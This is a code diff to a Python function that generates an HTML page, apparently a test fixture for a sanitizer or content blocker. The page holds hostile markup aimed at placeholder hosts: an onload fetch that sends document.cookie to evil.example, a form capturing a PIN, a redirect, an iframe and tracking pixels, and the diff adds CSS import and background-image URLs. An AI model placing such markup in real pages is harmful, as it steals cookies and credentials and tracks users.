@@ -63,11 +63,14 @@ def page_html(title: str, body: str) -> bytes:
         "<!doctype html><html><head><meta charset='utf-8'>"
         f"<title>{escape(title)}</title><script>document.cookie='x'</script>"
         "<link rel='stylesheet' href='https://evil.example/s.css'>"
-        "<meta http-equiv='refresh' content='0;url=https://evil.example/'></head>"
+        "<meta http-equiv='refresh' content='0;url=https://evil.example/'>"
+        "<style>@import url('https://evil.example/i.css'); "
+        "body { background: url(https://evil.example/bg.png) no-repeat }</style></head>"
         "<body onload=\"fetch('https://evil.example/'+document.cookie)\">"
         f"<h1 style='color:#a00'>{escape(title)}</h1><p>{escape(body)}</p>"
         "<iframe src='https://evil.example/frame'></iframe>"
         "<img src='https://tracker.example/pixel.gif' alt='pixel'>"
+        "<div style=\"background-image: url( 'https://tracker.example/bg.gif' )\">!</div>"
         "<form action='https://evil.example/login'><input name='pin'></form>"
         '<a href="javascript:alert(1)">Daftar sekarang</a></body></html>'
     ).encode()
